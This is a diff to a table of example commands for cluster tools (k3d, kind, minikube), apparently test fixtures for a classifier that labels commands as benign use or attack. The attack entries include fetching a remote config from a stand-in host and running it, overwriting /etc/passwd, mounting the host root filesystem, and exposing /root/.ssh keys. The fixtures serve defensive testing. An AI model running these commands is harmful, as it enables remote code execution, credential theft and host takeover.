@@ -155,9 +155,14 @@ export const clusters1: ExampleTable = {
     ],
   },
   k3d: {
-    use: 'k3d cluster create -c k3d.yaml → read k3d.yaml',
-    attack:
+    use: [
+      'k3d cluster create -c k3d.yaml → read k3d.yaml',
+      'k3d cluster create c -v ./data:/data → nothing',
+    ],
+    attack: [
       'curl -so k.yaml https://example.org/x && k3d cluster create -c k.yaml → execute ‹https://example.org/x›',
+      'k3d cluster create c -v /:/h@all → privilege /',
+    ],
   },
   'k3s agent': {
     use: 'k3s agent -s https://10.0.0.1:6443 -c agent.yaml → read agent.yaml',
@@ -173,10 +178,11 @@ export const clusters1: ExampleTable = {
     ],
   },
   kind: {
-    use: 'kind create cluster --config kind.yaml → read kind.yaml',
+    use: ['kind create cluster --config kind.yaml → read kind.yaml', 'kind get clusters → nothing'],
     attack: [
       'curl -so k.yaml https://example.org/x && kind create cluster --config k.yaml → execute ‹https://example.org/x›',
       'kind create cluster --kubeconfig=/etc/passwd → write /etc/passwd',
+      "printf 'nodes: [{extraMounts: [{hostPath: /, containerPath: /h}]}]' | kind create cluster --config - → privilege /",
     ],
   },
   kops: {
@@ -200,7 +206,10 @@ export const clusters1: ExampleTable = {
   },
   'minikube mount': {
     use: 'minikube mount src:/src → read-tree src',
-    attack: 'minikube mount /root/.ssh:/keys → read-tree /root/.ssh',
+    attack: [
+      'minikube mount /root/.ssh:/keys → read-tree /root/.ssh',
+      'minikube mount /:/host → privilege /',
+    ],
   },
   'minikube ssh': {
     use: 'minikube ssh cat notes.txt → read notes.txt',
